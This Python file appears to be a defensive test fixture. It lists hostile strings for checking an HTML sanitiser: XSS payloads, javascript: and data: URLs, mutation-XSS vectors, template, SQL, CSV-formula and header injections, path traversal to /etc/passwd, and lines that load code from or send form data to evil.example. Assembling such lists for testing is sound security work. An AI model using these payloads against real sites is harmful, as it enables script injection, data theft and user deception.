"""Strings that somebody might type to make a browser do something, or a reader see something else."""

EVENTS = [
    f"<{tag} {event}=alert(1)>"
    for tag, event in [
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("p", "onmouseover"), ("b", "onpointerenter"),
        ("a href=#", "onclick"), ("div style=animation-name:x", "onanimationstart"), ("form", "onsubmit"), ("iframe", "onload"),
        ("object data=x", "onerror"), ("p", "ONCLICK"), ("p", "oNcLiCk"), ("p/", "onclick"), ("p\tx", "onclick"), ("p\n", "onclick"),
        ("p\x0c", "onclick"), ("p contenteditable", "onbeforeinput"), ("math", "onclick"), ("ul", "oncopy"), ("td", "onwheel"),
    ]
]  # fmt: skip

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\x20type=module>import('//evil.example')</script>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
]

FRAMES = [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=//evil.example></portal>",
    "<form action=javascript:alert(1)><button>Click</button></form>",
    "<form action=//evil.example><input name=phrase><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/1 1x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video poster=//evil.example/x></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<table background=//evil.example/x><tr><td>x</td></tr></table>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=exit class=exit>x</div>",
    "<dialog open>x</dialog>",
]

LINKS = [
    f"<a href='{address}'>x</a>"
    for address in [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)", "java\rscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
        "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)", "&#0000106avascript:alert(1)",
        "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://x/1", "file:///etc/passwd", "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)", "jar:javascript:x", "intent://x#Intent;end", "ms-word:ofe|u|http://x", "javascript://%0aalert(1)",
        "javascript:alert(1)//https://good.example", "unknown:x", "\u2028javascript:alert(1)",
    ]
]  # fmt: skip

MUTATIONS = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,x#x'></use></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<p title='`-alert(1)-`'>x</p>",
    "<a title='x' title='y' href='/nl/' onclick='alert(1)' href='javascript:alert(1)'>x</a>",
    "<b <script>alert(1)</script>0",
    '<img """><script>alert(1)</script>">',
    '<a href="/nl/"onclick="alert(1)">x</a>',
    "<p\u00a0onclick=alert(1)>x</p>",
    "<p\u3000onclick=alert(1)>x</p>",
    "<ol start='1\" onclick=alert(1)'><li>x</li></ol>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
]

TEXTS = [
    "{{ 7*7 }}", "{% load x %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{request.COOKIES}}", "[[7*7]]", "=cmd|'/c calc'!A1",
    "@SUM(1)", "+1", "-1",
    "' OR 1=1 --", "\"; DROP TABLE x; --", "../../etc/passwd", "\x00", "a\x00b", "\x1b[31mred", "a\r\nSet-Cookie: x=1", "\u202egnp.exe",
    "a\u202eb\u202cc", "\u2066x\u2069", "\ufeffx", "\u200bx\u200d", "e" + "\u0301" * 200, "\U0001f469\u200d\U0001f467",
    "\ud7ff\ue000", "\ufffe\uffff",
    "https://good.example/\"onmouseover=alert(1)", "https://good.example/'onmouseover=alert(1)", "https://good.example/<script>alert(1)</script>",
    "https://good.example/`onclick=alert(1)", "http://[::1]/", "https://good.example/?a=1&lt;b&amp;c=\"",
    "javascript:alert(1)", "http:javascript:alert(1)",
    "https://a.example\u202e/moc.live", "http://" + "a" * 3000 + ".example/", "<" * 500, "<a " * 200, "&" * 500, "<p>" * 300,
]  # fmt: skip

HOSTILE = [*EVENTS, *SCRIPTS, *FRAMES, *LINKS, *MUTATIONS, *TEXTS]
